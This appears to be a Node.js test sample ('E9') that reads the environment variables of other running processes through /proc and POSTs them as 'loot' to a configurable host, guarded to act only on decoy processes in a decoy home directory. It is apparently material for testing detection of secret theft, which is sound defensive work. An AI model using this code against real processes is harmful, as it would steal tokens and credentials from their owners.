// E9: takes what other processes have in their environment. It only looks at those made for it.
const fs = require("node:fs");
const home = process.env.HOME;
if (!fs.existsSync(`${home}/.decoy-home`)) process.exit(0);
const http = require("node:http");

function post(body, host = process.env.THIEF ?? "127.0.0.1", port = 8443) {
  const request = http.request({ host, port, method: "POST", path: "/", headers: { "Content-Length": Buffer.byteLength(body) } });
  request.on("response", (response) => response.resume());
  request.end(body);
}

const loot = [];
for (const pid of fs.readdirSync("/proc").filter((name) => /^[0-9]+$/.test(name))) {
  try {
    if (!fs.readFileSync(`/proc/${pid}/cmdline`, "utf8").startsWith("decoy-service")) continue;
    loot.push(fs.readFileSync(`/proc/${pid}/environ`, "utf8"));
  } catch {
    // It has ended.
  }
}
post(loot.join("\n"));
